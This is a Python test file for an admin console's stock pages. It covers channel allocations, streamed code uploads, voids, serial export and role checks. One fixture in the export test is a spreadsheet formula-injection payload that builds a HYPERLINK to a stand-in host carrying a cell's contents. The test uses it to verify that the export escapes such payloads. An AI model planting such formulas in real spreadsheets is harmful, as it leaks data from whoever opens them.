"""The console's stock pages (issue 18, item 6): pools with every channel's and distributor's
allocation beside them, levels under their threshold marked; allocations given, taken back (never
past what is left) and shared; stock files uploaded as a stream past the 64 KB body limit with
progress lines and a report, a malformed one importing nothing; voids by upload; the unsold
codes' serials exported without a secret and without a formula."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re

from sqlalchemy import func, select

from quanyi.core.models import AuditRecord, StockItem
from quanyi.core.services import Core
from quanyi.core.staff.roles import Role
from quanyi.webhooks.uploads import HIGH_WATER, SCOPE_KEY, PacedUploads, UploadBody
from tests.console import OWNER, signed_in
from tests.helpers import new_order, product_with_stock, sandbox_event
from tests.test_distributors import make_distributor

FINANCE = 7001
SUPPORT = 7002
READER = 7003
PROGRESS = re.compile(r"^progress (\d+) (\d+)$", re.MULTILINE)


async def _available(core: Core, sku: str) -> int:
    (pool,) = await core.stock.pools(sku)
    return pool.level.available


async def _holding(core: Core, sku: str, channel: str) -> tuple[str, int, int] | None:
    (pool,) = await core.stock.pools(sku)
    found = [(a.mode, a.allocated, a.threshold) for a in pool.level.allocations if a.channel == channel]
    return found[0] if found else None


async def _upload(client, csrf: str, act: str, sku: str, data: bytes, filename: str):
    return await client.post(
        f"/admin/upload/{act}/{sku}",
        data=data,
        query_string={"filename": filename},
        headers={"X-CSRF-Token": csrf, "Content-Type": "application/octet-stream"},
    )


async def _trail(core: Core, action: str) -> list[AuditRecord]:
    async with core.db.read() as session:
        found = await session.execute(select(AuditRecord).where(AuditRecord.action == action))
        return list(found.scalars().all())


async def test_allocations_are_given_taken_back_within_what_is_left_shared_and_shown_beside_the_pool(
    core: Core, tmp_path
):
    await product_with_stock(core, tmp_path, sku="VIP", units=10)
    await core.stock.add_channel("partner-shop", "合作商城")
    agent = await make_distributor(core, 501)
    client, csrf = await signed_in(core, 7100, Role.OPERATOR)

    async def allocate(**form: str):
        return await client.post("/admin/stock/VIP/allocate", form={"csrf": csrf, **form})

    assert (await allocate(holder="partner-shop", action="units", units="4", threshold="2")).status_code == 303
    assert (await allocate(holder="501", action="units", units="3")).status_code == 303  # a distributor by id
    assert await _holding(core, "VIP", "partner-shop") == ("quota", 4, 2)
    # More than the pool has left unallocated (10 - 4 - 3 = 3): refused, nothing changes.
    over = await allocate(holder="partner-shop", action="units", units="4")
    assert over.status_code == 400 and 'data-testid="error"' in await over.get_data(as_text=True)
    assert await _holding(core, "VIP", "partner-shop") == ("quota", 4, 2)
    # Taking back more than it has left: refused; taking back 3 of 4 leaves 1, under its threshold 2.
    assert (await allocate(holder="partner-shop", action="take_back", units="5")).status_code == 400
    assert await _holding(core, "VIP", "partner-shop") == ("quota", 4, 2)
    assert (await allocate(holder="partner-shop", action="take_back", units="3")).status_code == 303
    assert await _holding(core, "VIP", "partner-shop") == ("quota", 1, 2)
    # Malformed input: a 400 with words, no change.
    for form in ({"holder": "partner-shop", "action": "units", "units": "x"}, {"holder": "x", "action": "steal"}):
        assert (await allocate(**form)).status_code == 400
    assert (await allocate(holder="nobody", action="units", units="1")).status_code == 400
    # The pool's own threshold; the bot sells from the shared pool.
    threshold = await client.post("/admin/stock/VIP/threshold", form={"csrf": csrf, "threshold": "6"})
    assert threshold.status_code == 303
    assert (await allocate(holder="bot", action="shared")).status_code == 303
    page = await (await client.get("/admin/stock")).get_data(as_text=True)
    shown = re.findall(r'<tr class="allocation(?: low)?" data-channel="([^"]+)"', page)
    assert sorted(shown) == sorted(["bot", "partner-shop", f"agent-{agent.user_id}"])
    assert 'data-channel="partner-shop"' in page and "合作商城" in page and "代理" in page
    low = re.findall(r'<tr class="allocation low" data-channel="([^"]+)"', page)
    assert low == ["partner-shop"]  # 1 left of a quota with threshold 2
    assert 'class="pool" data-sku="VIP"' in page  # 10 available is above the pool's threshold 6
    await client.post("/admin/stock/VIP/threshold", form={"csrf": csrf, "threshold": "10"})
    assert 'class="pool low" data-sku="VIP"' in await (await client.get("/admin/stock")).get_data(as_text=True)
    # What the shared pool has: 10 available less the 1 + 3 that quotas hold.
    (pool,) = await core.stock.pools("VIP")
    assert pool.level.unallocated == 6
    detail = await (await client.get("/admin/stock/VIP")).get_data(as_text=True)
    assert '<td class="num" data-col="shared">6</td>' in detail
    trail = [r for r in await _trail(core, "allocate") + await _trail(core, "take back")]
    assert trail and all((r.actor, r.front) == ("operator:7100", "web") for r in trail)


async def test_an_upload_over_64_kb_streams_progress_then_the_report_and_is_audited(core: Core, tmp_path):
    await product_with_stock(core, tmp_path, sku="VIP", units=1)
    client, csrf = await signed_in(core)
    lines = [f"SN{i:06d} CODE-{i:06d}-{'x' * 12}" for i in range(6000)]
    lines[10] = lines[9]  # a duplicate inside the file
    lines[20] = "SN000020 " + "y" * 600  # a code longer than any: rejected, the rest imported
    data = ("\n".join(lines) + "\n").encode()
    assert len(data) > 64 * 1024
    answer = await _upload(client, csrf, "stock", "VIP", data, "batch-1.txt")
    body = await answer.get_data(as_text=True)
    assert answer.status_code == 200, body
    steps = [(int(done), int(total)) for done, total in PROGRESS.findall(body)]
    assert len(steps) >= 2 and steps[-1] == (6000, 6000) and steps[0][0] < 6000  # a chunk, then the end
    assert all(total == 6000 for _, total in steps) and steps == sorted(steps)
    report = body[body.rindex("progress") :]
    assert 'data-testid="imported"' in report and "导入 5998 条" in report and "跳过重复 1 条" in report
    assert "拒绝 1 行" in report and '<td class="num">21</td>' in report
    assert await _available(core, "VIP") == 1 + 5998
    (record,) = await _trail(core, "stock import")
    assert (record.actor, record.front, record.object_id) == (f"operator:{OWNER}", "web", "VIP")
    assert json.loads(record.new or "{}").items() >= {"imported": 5998, "duplicates": 1, "rejected": 1}.items()
    assert "CODE-" not in (record.new or "")
    # The same file again: everything a duplicate, nothing new.
    again = await (await _upload(client, csrf, "stock", "VIP", data, "batch-1.txt")).get_data(as_text=True)
    assert "导入 0 条" in again and await _available(core, "VIP") == 5999


async def test_a_malformed_file_imports_nothing_and_a_void_upload_voids_what_it_lists(core: Core, tmp_path):
    codes = await product_with_stock(core, tmp_path, sku="VIP", units=6)
    client, csrf = await signed_in(core, 7100, Role.OPERATOR)
    bad = b"serial,secret\nA1,NEW-1\nA2,NEW-2,2026-01-01,extra\nA3,NEW-3\n"
    refused = await _upload(client, csrf, "stock", "VIP", bad, "bad.csv")
    body = await refused.get_data(as_text=True)
    assert refused.status_code == 400 and "progress" not in body
    assert 'data-testid="refused"' in body and "没有向 VIP 导入任何卡密" in body and "第 3 行" in body
    assert await _available(core, "VIP") == 6
    # Not a stock file at all, and a product that takes none: refused the same way.
    assert (await _upload(client, csrf, "stock", "VIP", b"x\n", "codes.pdf")).status_code == 400
    assert (await _upload(client, csrf, "stock", "NOPE", b"x\n", "codes.txt")).status_code == 404
    # Void two available codes and one sold one, by upload.
    placed = await new_order(core, sku="VIP", quantity=1)
    await core.fulfiller.submit(sandbox_event(placed.order.number, placed.order.amount))
    sold = codes[0]  # items are taken in id order
    listed = [c for c in codes if c != sold][:2] + [sold]
    voided = await _upload(client, csrf, "void", "VIP", ("\n".join(listed) + "\n").encode(), "leaked.txt")
    text = await voided.get_data(as_text=True)
    assert voided.status_code == 200 and PROGRESS.search(text)
    assert "作废 2 条" in text and "已售出 1 条" in text and placed.order.number in text
    assert await _available(core, "VIP") == 3
    assert await _trail(core, "stock void")
    # Past QUANYI_MAX_STOCK_FILE_MB: refused before the body is read.
    core.settings = core.settings.model_copy(update={"max_stock_file_mb": 1})
    small, small_csrf = await signed_in(core, 7100)
    big = await _upload(small, small_csrf, "stock", "VIP", b"A-CODE-0123456789\n" * 70_000, "big.txt")
    assert big.status_code == 413 and await _available(core, "VIP") == 3
    assert "文件超过 1 MB" in await big.get_data(as_text=True)  # said in the reader's language


async def test_the_serial_export_has_ids_serials_and_batches_but_no_secret_and_no_formula(core: Core, tmp_path):
    await product_with_stock(core, tmp_path, sku="VIP", units=0)
    path = tmp_path / "cards.csv"
    rows = [("SN-1", "SECRET-AAAA-1"), ('=HYPERLINK("http://x/?"&A1,"y")', "SECRET-BBBB-2"), ("", "SECRET-CCCC-3")]
    path.write_text(
        "serial,secret,expires_at\n" + "".join(f'"{s.replace(chr(34), chr(34) * 2)}",{c},2030-01-01\n' for s, c in rows)
    )
    await core.stock.import_file("VIP", path)
    client, _ = await signed_in(core, READER, Role.READ_ONLY)  # reading it is enough
    answer = await client.get("/admin/stock/VIP/serials.csv")
    assert answer.status_code == 200 and answer.headers["Content-Type"].startswith("text/csv")
    data = await answer.get_data(as_text=True)
    assert "SECRET" not in data
    table = list(csv.reader(io.StringIO(data.lstrip("\ufeff"))))
    assert table[0] == ["item_id", "serial", "status", "batch", "file", "imported_at", "expires_at"]
    assert [row[1] for row in table[1:]] == ["SN-1", "'" + rows[1][0], ""]
    assert all(row[2] == "available" and row[4] == "cards.csv" and row[6].startswith("2030-01-01") for row in table[1:])
    assert not any(cell[:1] in "=+-@" for row in table[1:] for cell in row if cell)
    (record,) = await _trail(core, "export serials")
    assert record.actor == f"operator:{READER}"
    assert (await client.get("/admin/stock/NOPE/serials.csv")).status_code == 404


async def test_roles_finance_and_read_only_cannot_change_stock_and_support_cannot_see_it(core: Core, tmp_path):
    await product_with_stock(core, tmp_path, sku="VIP", units=3)
    await core.stock.add_channel("partner-shop", "合作商城")
    for user_id, role in ((FINANCE, Role.FINANCE), (READER, Role.READ_ONLY)):
        client, csrf = await signed_in(core, user_id, role)
        page = await client.get("/admin/stock/VIP")
        assert page.status_code == 200 and "data-upload" not in await page.get_data(as_text=True)
        allocate = await client.post(
            "/admin/stock/VIP/allocate", form={"csrf": csrf, "holder": "partner-shop", "action": "units", "units": "1"}
        )
        upload = await _upload(client, csrf, "stock", "VIP", b"NEW-CODE-1\n", "a.txt")
        assert (allocate.status_code, upload.status_code) == (403, 403)
    client, csrf = await signed_in(core, SUPPORT, Role.SUPPORT)
    assert (await client.get("/admin/stock")).status_code == 403
    assert (await client.get("/admin/stock/VIP/serials.csv")).status_code == 403
    assert (await _upload(client, csrf, "void", "VIP", b"x\n", "a.txt")).status_code == 403
    assert await _available(core, "VIP") == 3 and await _holding(core, "VIP", "partner-shop") is None
    async with core.db.read() as session:
        assert await session.scalar(select(func.count()).select_from(StockItem)) == 3


async def test_an_upload_is_received_only_as_fast_as_the_view_takes_it():
    """Quart reads a body eagerly; an upload's ``receive`` waits while 1 MB is still untaken."""
    body = UploadBody(None, None)
    scope = {"type": "http", "path": "/admin/upload/stock/VIP", SCOPE_KEY: body}
    piece = b"x" * 65536
    received = 0

    async def receive():
        nonlocal received
        received += 1
        return {"type": "http.request", "body": piece, "more_body": True}

    async def app(scope, paced, send):  # what Quart's reader does with every message
        while True:
            body.append((await paced())["body"])

    reader = asyncio.create_task(PacedUploads(app)(scope, receive, None))
    for _ in range(200):
        await asyncio.sleep(0)
    held = received
    assert held * len(piece) <= HIGH_WATER + len(piece)  # it stopped reading at the high-water mark
    taken = await body.__anext__()  # the view takes what waits
    assert len(taken) == held * len(piece)
    for _ in range(200):
        await asyncio.sleep(0)
    assert received > held  # and reading goes on
    reader.cancel()
    # Outside /admin/upload/ nothing is paced.
    plain: list[object] = []
    await PacedUploads(lambda s, r, _: _append(plain, r))({"type": "http", "path": "/api/v1/x"}, receive, None)
    assert plain == [receive]


async def _append(into: list[object], item: object) -> None:
    into.append(item)
